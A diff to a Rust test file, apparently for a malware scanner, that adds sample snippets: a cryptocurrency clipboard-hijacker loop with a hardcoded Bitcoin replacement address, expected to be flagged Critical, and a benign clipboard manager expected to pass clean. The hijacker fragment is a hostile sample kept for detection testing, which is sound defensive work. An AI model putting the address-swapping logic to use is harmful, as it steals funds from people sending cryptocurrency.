@@ -223,11 +223,28 @@ export function Send() {
 "#;
     clean("src/Send.jsx", ui);
     // A clipper's loop body on its own: paste, regex test, copy back.
-    let body = r#"clipboard_data = pyperclip.paste()
+    let body = r#"self.address_btc = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
+clipboard_data = pyperclip.paste()
 if re.search("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", clipboard_data):
     pyperclip.copy(self.address_btc)
 "#;
     assert_eq!(sev("pkg/c.py", body), Some(Severity::Critical));
+    // A clipboard manager that labels copied addresses and restores old entries: it reads,
+    // writes and matches addresses, but has no replacement address of its own.
+    let manager = r#"import re, time, pyperclip
+LABELS = [(re.compile(r'^0x[a-fA-F0-9]{40}$'), 'ETH address'), (re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$'), 'BTC address')]
+def watch(history):
+    last = None
+    while True:
+        text = pyperclip.paste()
+        if text != last:
+            history.append((time.time(), text))
+            last = text
+        time.sleep(0.5)
+def restore(entry):
+    pyperclip.copy(entry[1])
+"#;
+    clean("cliphist/watch.py", manager);
     // A CLI wallet that copies its address and reads a pasted one for validation.
     let cli = r#"import pyperclip, re
 def show(addr):
